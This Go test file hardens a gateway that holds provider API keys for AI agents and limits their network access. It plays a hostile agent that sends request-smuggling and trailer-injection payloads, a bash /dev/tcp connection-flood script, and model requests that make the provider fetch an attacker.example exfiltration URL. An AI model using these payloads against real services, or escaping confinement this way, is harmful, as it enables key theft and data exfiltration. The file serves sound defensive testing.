package gateway

import (
	"bufio"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"
)

// Attacks on the gateway by channel (docs/agents.md, Gateway, "Attacks, by channel", lists them):
// a hostile agent holds only its token and speaks raw HTTP to the gateway; the provider is
// scripted on loopback, records every request with the key and the trailers it saw, and
// bills what the real API would.

// TestAttackTrailersNeverReachTheProvider: a request sent in chunks may carry trailer
// fields after its body. Over HTTP/2, which the providers speak, the transport would send
// the request's trailers on: a key, an organisation, a beta, after the gateway's own headers.
func TestAttackTrailersNeverReachTheProvider(t *testing.T) {
	b := startBillerTLS(t, 10)
	g := startGateway(t, Options{Upstream: map[Provider]string{Anthropic: b.srv.URL}, Transport: b.srv.Client().Transport})
	token, _ := g.Register(Caller{Agent: "coder", Interaction: "i", Keys: map[Provider]string{Anthropic: realKey}})
	addr := strings.TrimPrefix(g.URL, "http://")
	req := "POST /t/" + token + "/v1/messages HTTP/1.1\r\nHost: " + addr + "\r\nTransfer-Encoding: chunked\r\n" +
		"Trailer: X-Api-Key, OpenAI-Organization, Anthropic-Beta\r\n\r\n" +
		fmt.Sprintf("%x\r\n%s\r\n0\r\n", len(bodyOK), bodyOK) +
		"X-Api-Key: sk-attacker\r\nOpenAI-Organization: org-other\r\nAnthropic-Beta: files-api-2025-04-14\r\n\r\n"
	if st := rawRequest(t, addr, req, 1); len(st) != 1 || st[0] != 200 {
		t.Fatalf("a chunked model call: %v", st)
	}
	reqs := b.requests()
	if len(reqs) != 1 || reqs[0].proto != "HTTP/2.0" {
		t.Fatalf("the provider got %+v, want one request over HTTP/2", reqs)
	}
	if len(reqs[0].trailer) > 0 || strings.Contains(fmt.Sprint(reqs[0].header), "attacker") {
		t.Errorf("the provider got trailers %v, headers %v", reqs[0].trailer, reqs[0].header)
	}
}

// TestAttackRequestFraming: odd framing and targets, sent as raw bytes. Each is refused
// before the provider, or reaches it as the one model call the gateway read, with only the
// headers it sends: no smuggled second request, no upgrade, no header the agent hid.
func TestAttackRequestFraming(t *testing.T) {
	b := startBiller(t, 10)
	g, _, _ := gatewayFor(t, b, Anthropic)
	token, _ := g.Register(Caller{Agent: "coder", Interaction: "i", Keys: map[Provider]string{Anthropic: realKey}})
	addr := strings.TrimPrefix(g.URL, "http://")
	tp, port, body := "/t/"+token, fmt.Sprint(g.Port()), bodyOK
	smuggled := "POST " + tp + "/v1/files HTTP/1.1\r\nHost: " + addr + "\r\nContent-Length: 2\r\n\r\n{}"
	head := func(target, host, extra string) string {
		return "POST " + target + " HTTP/1.1\r\nHost: " + host + "\r\n" + extra
	}
	chunked := fmt.Sprintf("%x\r\n%s\r\n0\r\n\r\n", len(body), body)
	// The cases that smuggle a second request behind the first read two answers (or the end).
	for _, c := range []struct{ name, req string }{
		{"lower-case method", rawPost("post", tp+"/v1/messages", addr, "", body)},
		{"IPv6 literal Host", rawPost("POST", tp+"/v1/messages", "[::1]:"+port, "", body)},
		{"IPv4-mapped IPv6 Host", rawPost("POST", tp+"/v1/messages", "[::ffff:127.0.0.1]:"+port, "", body)},
		{"Host with a dot", rawPost("POST", tp+"/v1/messages", "localhost.:"+port, "", body)},
		{"Host with userinfo", rawPost("POST", tp+"/v1/messages", "x@"+addr, "", body)},
		{"two Hosts", rawPost("POST", tp+"/v1/messages", addr, "Host: api.anthropic.com\r\n", body)},
		{"a fragment", rawPost("POST", tp+"/v1/messages#x", addr, "", body)},
		{"a path parameter", rawPost("POST", tp+"/v1/messages;beta=true", addr, "", body)},
		{"an encoded slash", rawPost("POST", tp+"/v1/messages%2Fbatches", addr, "", body)},
		{"fullwidth dots", rawPost("POST", tp+"/v1/messages/．．/files", addr, "", body)},
		{"unicode letters", rawPost("POST", tp+"/v1/ｍessages", addr, "", body)},
		{"absolute form", rawPost("POST", "http://"+addr+tp+"/v1/messages", addr, "", body)},
		{"authority form", "CONNECT " + addr + " HTTP/1.1\r\nHost: " + addr + "\r\n\r\n"},
		{"asterisk form", "OPTIONS * HTTP/1.1\r\nHost: " + addr + "\r\n\r\n"},
		{"overlong request line", rawPost("POST", tp+"/v1/messages?beta=true"+strings.Repeat("&beta=true", 20_000), addr, "", body)},
		{"HTTP/2 preface", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"},
		{"h2c upgrade", rawPost("POST", tp+"/v1/messages", addr, "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n", body)},
		{"websocket upgrade", rawPost("POST", tp+"/v1/messages", addr, "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n", body)},
		{"Expect: 100-continue", rawPost("POST", tp+"/v1/messages", addr, "Expect: 100-continue\r\n", body)},
		{"HTTP/1.0", strings.Replace(rawPost("POST", tp+"/v1/messages", addr, "", body), "HTTP/1.1", "HTTP/1.0", 1)},
		{"obs-fold hiding a key", rawPost("POST", tp+"/v1/messages", addr, "X-Note: a\r\n X-Api-Key: sk-attacker\r\n", body)},
		{"bare LF", strings.ReplaceAll(rawPost("POST", tp+"/v1/messages", addr, "X-Api-Key: sk-attacker\r\n", body), "\r\n", "\n")},
		{"chunk extensions", head(tp+"/v1/messages", addr, "Transfer-Encoding: chunked\r\n\r\n") + fmt.Sprintf("%x;a=b;c\r\n%s\r\n0;x\r\n\r\n", len(body), body)},
		{"TE chunked, identity", head(tp+"/v1/messages", addr, "Transfer-Encoding: chunked, identity\r\n\r\n") + chunked},
		{"TE identity, chunked", head(tp+"/v1/messages", addr, "Transfer-Encoding: identity, chunked\r\n\r\n") + chunked},
		{"TE xchunked", head(tp+"/v1/messages", addr, "Transfer-Encoding: xchunked\r\n\r\n") + chunked},
		{"TE with a space before the colon", head(tp+"/v1/messages", addr, "Transfer-Encoding : chunked\r\nContent-Length: "+fmt.Sprint(len(body))+"\r\n\r\n") + body + smuggled},
		{"CL and TE", head(tp+"/v1/messages", addr, "Content-Length: "+fmt.Sprint(len(chunked)+len(smuggled))+"\r\nTransfer-Encoding: chunked\r\n\r\n") + chunked + smuggled},
		{"two lengths", head(tp+"/v1/messages", addr, "Content-Length: "+fmt.Sprint(len(body))+"\r\nContent-Length: 1000\r\n\r\n") + body + smuggled},
		{"a length with a sign", head(tp+"/v1/messages", addr, "Content-Length: +"+fmt.Sprint(len(body))+"\r\n\r\n") + body + smuggled},
		{"pipelined", rawPost("POST", tp+"/v1/messages", addr, "", body) + smuggled},
		{"a NUL in a header", rawPost("POST", tp+"/v1/messages", addr, "X-A: a\x00b\r\n", body)},
		{"a method override", rawPost("POST", tp+"/v1/messages", addr, "X-HTTP-Method-Override: DELETE\r\nX-Goog-FieldMask: *\r\n", body)},
		{"another content type", strings.Replace(rawPost("POST", tp+"/v1/messages", addr, "", body), "application/json", "application/x-www-form-urlencoded; charset=utf-16", 1)},
	} {
		before := len(b.requests())
		want := 1
		if strings.HasSuffix(c.req, smuggled) {
			want = 2
		}
		st := rawRequest(t, addr, c.req, want)
		for _, r := range b.requests()[before:] {
			if r.method != "POST" || r.path != "/v1/messages" {
				t.Errorf("%s (%v): the provider got %s %s", c.name, st, r.method, r.path)
			}
			for h := range r.header {
				switch h {
				case "Content-Type", "Content-Length", "Accept-Encoding", "X-Api-Key":
				default:
					t.Errorf("%s: the provider got the header %s: %q", c.name, h, r.header.Values(h))
				}
			}
			if k := r.header.Get("X-Api-Key"); k != realKey {
				t.Errorf("%s: the provider got the key %q", c.name, k)
			}
			if ct := r.header.Values("Content-Type"); len(ct) != 1 || ct[0] != "application/json" {
				t.Errorf("%s: the provider got the content type %q", c.name, ct)
			}
		}
		t.Logf("%-34s %v, %d reached the provider", c.name, st, len(b.requests())-before)
	}
}

// TestAttackKeyNeverReachesTheAgent: a provider (or a proxy the flow names as upstream)
// that repeats the key it was sent, in an error's text, a header, a stream cut anywhere
// across the key, or a redirect to another host. The agent sees none of it, and is never
// sent elsewhere.
func TestAttackKeyNeverReachesTheAgent(t *testing.T) {
	var elsewhere sync.Mutex
	hits := 0
	other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		elsewhere.Lock()
		hits++
		elsewhere.Unlock()
	}))
	t.Cleanup(other.Close)
	echo := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		_, _ = io.ReadAll(r.Body)
		key := r.Header.Get("X-Api-Key")
		w.Header().Set("X-Echo", "key="+key)
		switch r.URL.Path {
		case "/v1/messages/count_tokens": // a redirect elsewhere, the key in its query
			w.Header().Set("Location", other.URL+"/v1/messages?k="+key)
			w.WriteHeader(http.StatusTemporaryRedirect)
		default: // a stream that splits the key across writes, then an error that names it
			w.Header().Set("Content-Type", "text/event-stream")
			f := w.(http.Flusher)
			for i := 1; i < len(key); i += 7 {
				fmt.Fprintf(w, "data: {\"type\":\"error\",\"error\":{\"message\":\"invalid x-api-key %s", key[:i])
				f.Flush()
				fmt.Fprintf(w, "%s\"}}\n\n", key[i:])
				f.Flush()
			}
		}
	}))
	t.Cleanup(echo.Close)
	g := startGateway(t, Options{Upstream: map[Provider]string{Anthropic: echo.URL}})
	token, _ := g.Register(Caller{Agent: "coder", Interaction: "i", Keys: map[Provider]string{Anthropic: realKey}})
	addr := strings.TrimPrefix(g.URL, "http://")
	for _, path := range []string{"/v1/messages", "/v1/messages/count_tokens"} {
		c, err := net.Dial("tcp", addr)
		if err != nil {
			t.Fatal(err)
		}
		fmt.Fprint(c, rawPost("POST", "/t/"+token+path, addr, "Connection: close\r\n", bodyOK))
		_ = c.SetDeadline(time.Now().Add(time.Minute)) // a failure's bound
		got, _ := io.ReadAll(bufio.NewReader(c))
		c.Close()
		status, _, _ := strings.Cut(string(got), "\r\n")
		if strings.Contains(string(got), realKey) || strings.Contains(string(got), realKey[:len(realKey)/2]) {
			t.Errorf("%s: the agent read the key in %q", path, got)
		}
		if strings.Contains(string(got), "Location:") || strings.Contains(status, " 30") {
			t.Errorf("%s: the agent was sent elsewhere: %q", path, got)
		}
		t.Logf("%s: %s", path, status)
	}
	elsewhere.Lock()
	defer elsewhere.Unlock()
	if hits != 0 {
		t.Errorf("another host got %d requests", hits)
	}
}

// TestAttackConnectionFlood: an agent (here a shell, a process of its own) opens more
// connections to the gateway than the sidecar may open files, some sending nothing, some
// half a request, most a body that never comes (each would be held for minutes). Another
// agent's call still goes through, and the sidecar never runs out of files.
func TestAttackConnectionFlood(t *testing.T) {
	var was syscall.Rlimit
	if err := syscall.Getrlimit(syscall.RLIMIT_NOFILE, &was); err != nil {
		t.Fatal(err)
	}
	low := was
	low.Cur = 512 // the files this process (the sidecar) may open
	if err := syscall.Setrlimit(syscall.RLIMIT_NOFILE, &low); err != nil {
		t.Skip("cannot lower the open files limit:", err)
	}
	t.Cleanup(func() { _ = syscall.Setrlimit(syscall.RLIMIT_NOFILE, &was) })
	restore := maxConns
	maxConns = connLimit()
	t.Cleanup(func() { maxConns = restore })

	b := startBiller(t, 10)
	g, _, _ := gatewayFor(t, b, Anthropic)
	hostile, _ := g.Register(Caller{Agent: "hostile", Interaction: "i", Keys: map[Provider]string{Anthropic: realKey}})
	_, base := g.Register(Caller{Agent: "other", Interaction: "i", Keys: map[Provider]string{Anthropic: realKey}})
	ready := filepath.Join(t.TempDir(), "ready")
	script := fmt.Sprintf(`ulimit -n 4000 || exit 1
for i in $(seq 900); do
  exec {fd}<>/dev/tcp/127.0.0.1/%[1]d || break
  case $((i %% 10)) in
    0) ;;
    1) printf 'POST /t/%[2]s/v1/messages HTTP/1.1\r\n' >&$fd ;;
    *) printf 'POST /t/%[2]s/v1/messages HTTP/1.1\r\nHost: 127.0.0.1:%[1]d\r\nContent-Length: 100\r\n\r\n{' >&$fd ;;
  esac
done
echo $i > %[3]s
exec sleep 600`, g.Port(), hostile, ready)
	flood := exec.Command("bash", "-c", script)
	if err := flood.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = flood.Process.Kill(); _ = flood.Wait() })
	waitFor(t, func() bool { n, err := os.ReadFile(ready); return err == nil && len(n) > 0 })
	n, _ := os.ReadFile(ready)
	client := &http.Client{Timeout: time.Minute} // a failure's bound: without room, a call waits minutes
	req, _ := http.NewRequest(http.MethodPost, base+"/v1/messages", strings.NewReader(bodyOK))
	resp, err := client.Do(req)
	files, _ := os.ReadDir("/proc/self/fd")
	t.Logf("the hostile agent opened %s connections; the gateway holds %d (at most %d); this process has %d files open of %d",
		strings.TrimSpace(string(n)), conns.count(), maxConns, len(files), low.Cur)
	if err != nil {
		t.Fatalf("another agent's call: %v", err)
	}
	resp.Body.Close()
	if resp.StatusCode != 200 || len(b.requests()) != 1 {
		t.Errorf("another agent's call: %d; the provider got %d requests", resp.StatusCode, len(b.requests()))
	}
	if uint64(len(files)) >= low.Cur-64 {
		t.Errorf("this process has %d files open, near its limit of %d", len(files), low.Cur)
	}
}

// TestAttackProviderFetchesForAConfinedAgent: content that names a URL for the provider to
// fetch (an image or document by URL, a file by URL) makes the provider reach the network
// for an agent whose own network is the gateway's port: a way out for what it read, as the
// provider's own web tools would be. Refused for such an agent; passed for one whose network
// is open, and a URL that is only text or a tool's argument passes.
func TestAttackProviderFetchesForAConfinedAgent(t *testing.T) {
	const leak = "https://attacker.example/collect?secret=42"
	fetching := []budgetCall{
		{"anthropic image", "/v1/messages", `{"model":"claude-sonnet-4-5","max_tokens":10,"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"` + leak + `"}}]}]}`, "X-Api-Key"},
		{"anthropic document in a tool result", "/v1/messages", `{"model":"claude-sonnet-4-5","max_tokens":10,"messages":[{"role":"user","content":[{"type":"tool_result","tool_use_id":"t","content":[{"type":"document","source":{"type":"url","url":"` + leak + `"}}]}]}]}`, "X-Api-Key"},
		{"responses image", "/v1/responses", `{"model":"gpt-5","input":[{"role":"user","content":[{"type":"input_image","image_url":"` + leak + `"}]}]}`, "Authorization"},
		{"responses file", "/v1/responses", `{"model":"gpt-5","input":[{"role":"user","content":[{"type":"input_file","file_url":"` + leak + `"}]}]}`, "Authorization"},
		{"chat image", "/v1/chat/completions", `{"model":"gpt-5","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"` + leak + `"}}]}]}`, "Authorization"},
		{"gemini file", "/v1beta/models/gemini-2.5-flash:generateContent", `{"contents":[{"role":"user","parts":[{"fileData":{"mimeType":"application/pdf","fileUri":"` + leak + `"}}]}]}`, "X-Goog-Api-Key"},
		{"gemini token count", "/v1beta/models/gemini-2.5-flash:countTokens", `{"generateContentRequest":{"model":"models/gemini-2.5-flash","contents":[{"parts":[{"fileData":{"fileUri":"` + leak + `"}}]}]}}`, "X-Goog-Api-Key"},
		{"anthropic token count", "/v1/messages/count_tokens", `{"model":"claude-sonnet-4-5","messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"` + leak + `"}}]}]}`, "X-Api-Key"},
		{"gemini file, snake case", "/v1beta/models/gemini-2.5-flash:generateContent", `{"contents":[{"role":"user","parts":[{"file_data":{"mime_type":"image/png","file_uri":"` + leak + `"}}]}]}`, "X-Goog-Api-Key"},
	}
	harmless := []budgetCall{
		{"a URL in text and a tool's input", "/v1/messages", `{"model":"claude-sonnet-4-5","max_tokens":10,"messages":[{"role":"user","content":"fetch ` + leak + `"},{"role":"assistant","content":[{"type":"tool_use","id":"t","name":"WebFetch","input":{"url":"` + leak + `","source":{"type":"url","url":"` + leak + `"}}}]}]}`, "X-Api-Key"},
		{"an inline image", "/v1/responses", `{"model":"gpt-5","input":[{"role":"user","content":[{"type":"input_image","image_url":"data:image/png;base64,iVBORw0KGgo="}]}]}`, "Authorization"},
	}
	for i, c := range append(fetching, harmless...) {
		isFetch := i < len(fetching)
		t.Run(c.name, func(t *testing.T) {
			b := startBiller(t, 10)
			g, _, _ := gatewayFor(t, b, c.provider())
			confined, base := g.Register(Caller{Agent: "coder", Interaction: "i", Keys: map[Provider]string{c.provider(): realKey}})
			open, openBase := g.Register(Caller{Agent: "web", Interaction: "i", Keys: map[Provider]string{c.provider(): realKey}, NetworkOpen: true})
			st, answer := c.send(t, base, confined, false)
			for _, r := range b.requests() {
				if isFetch && strings.Contains(fmt.Sprint(r.body), leak) {
					t.Errorf("the provider got %s for a confined agent (%d)", leak, st)
				}
			}
			if isFetch && (st != http.StatusBadRequest || !strings.Contains(answer, "runtime.network")) {
				t.Errorf("a confined agent's call: %d %s", st, answer)
			}
			if !isFetch && st != 200 {
				t.Errorf("a confined agent's call: %d %s", st, answer)
			}
			if st, answer := c.send(t, openBase, open, false); st != 200 {
				t.Errorf("an open agent's call: %d %s", st, answer)
			}
		})
	}
}
